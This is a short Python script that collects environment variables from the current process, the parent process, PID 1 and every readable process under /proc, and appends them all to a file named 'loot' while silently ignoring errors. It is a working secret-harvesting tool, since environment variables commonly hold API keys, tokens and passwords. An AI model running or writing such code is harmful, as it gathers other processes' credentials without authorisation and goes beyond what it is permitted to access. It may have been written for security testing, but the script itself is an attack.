"""Write down every variable of every environment that can be seen."""

import contextlib
import glob
import os

with open("loot", "ab") as loot:
    loot.write(repr(dict(os.environ)).encode())
    for path in ["/proc/1/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/[0-9]*/environ")]:
        with contextlib.suppress(OSError), open(path, "rb") as file:
            loot.write(file.read())
print("TRIED")
